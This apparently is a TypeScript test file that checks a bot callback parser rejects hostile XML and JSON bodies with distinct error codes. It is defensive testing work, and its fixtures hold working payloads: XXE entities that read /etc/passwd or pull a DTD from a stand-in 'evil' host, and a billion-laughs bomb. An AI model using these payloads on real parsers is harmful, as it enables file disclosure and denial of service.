/**
 * The table of hostile inputs: each is refused with its own stable code, through every parser
 * that can receive it, and never crashes (no non-CallbackParseError escapes).
 */
import { describe, expect, it } from 'vitest';
import { parseAibotCallback } from '../../../src/protocol/callback/aibot.js';
import { parseEncryptedEnvelope } from '../../../src/protocol/callback/envelope.js';
import { parseGroupCallbackJson, parseGroupCallbackXml } from '../../../src/protocol/callback/group.js';
import type { RawBody } from '../../../src/protocol/callback/body.js';
import { parseErrorOf } from './errors.js';

const xmlParsers: [string, (b: RawBody) => unknown][] = [
  ['group XML', (b) => parseGroupCallbackXml(b)],
  ['XML envelope', (b) => parseEncryptedEnvelope(b, 'xml')],
];
const jsonParsers: [string, (b: RawBody) => unknown][] = [
  ['group JSON', (b) => parseGroupCallbackJson(b)],
  ['aibot JSON', (b) => parseAibotCallback(b)],
  ['JSON envelope', (b) => parseEncryptedEnvelope(b, 'json')],
];

const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
).join('')}]><xml><MsgType>&lol9;</MsgType></xml>`;

const tenMiB = Buffer.alloc(10 * 1024 * 1024, 0x20);
tenMiB.write('<xml><Encrypt>', 0);

const hostileXml: [string, RawBody, string][] = [
  [
    'XXE (external entity)',
    '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><MsgType>&x;</MsgType></xml>',
    'callback_xml_dtd_forbidden',
  ],
  ['XXE (parameter entity)', '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><xml/>', 'callback_xml_dtd_forbidden'],
  ['billion laughs', bomb, 'callback_xml_dtd_forbidden'],
  ['10 MiB body', tenMiB, 'callback_body_too_large'],
  [
    'non-UTF-8 bytes',
    Uint8Array.from([0x3c, 0x78, 0x6d, 0x6c, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x78, 0x6d, 0x6c, 0x3e]),
    'callback_body_not_utf8',
  ],
  ['malformed XML', '<xml><MsgType>text</xml>', 'callback_xml_malformed'],
  ['empty body', '', 'callback_body_empty'],
];

const hostileJson: [string, RawBody, string][] = [
  ['10 MiB body', Buffer.alloc(10 * 1024 * 1024, 0x20), 'callback_body_too_large'],
  ['non-UTF-8 bytes', Uint8Array.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]), 'callback_body_not_utf8'],
  ['malformed JSON', '{"msgtype":"text",', 'callback_json_malformed'],
  ['JSON array', '[]', 'callback_json_malformed'],
  ['empty body', Buffer.alloc(0), 'callback_body_empty'],
  ['missing fields', '{}', 'callback_missing_field'],
];

describe('hostile inputs', () => {
  for (const [parserName, parse] of xmlParsers) {
    it.each(hostileXml)(`${parserName}: %s → %s`, (_, body, code) => {
      expect(parseErrorOf(() => parse(body)).code).toBe(code);
    });
  }
  for (const [parserName, parse] of jsonParsers) {
    it.each(hostileJson)(`${parserName}: %s → %s`, (_, body, code) => {
      expect(parseErrorOf(() => parse(body)).code).toBe(code);
    });
  }

  it('gives each hostile kind its own code', () => {
    const codes = new Set([...hostileXml, ...hostileJson].map(([, , code]) => code));
    expect(codes.size).toBe(7);
  });

  it('never throws anything but CallbackParseError on random bytes', () => {
    let seed = 42;
    const next = (): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed;
    };
    const parsers = [...xmlParsers, ...jsonParsers].map(([, p]) => p);
    for (let i = 0; i < 300; i++) {
      const prefix = i % 2 === 0 ? '<xml><MsgType>' : '{"msgtype":';
      const noise = Uint8Array.from({ length: next() % 64 }, () => next() % 256);
      const body = Buffer.concat([Buffer.from(prefix), noise]);
      for (const parse of parsers) {
        try {
          parse(body);
        } catch (error) {
          expect(error).toBeInstanceOf(Error);
          expect((error as Error).constructor.name).toBe('CallbackParseError');
        }
      }
    }
  });
});
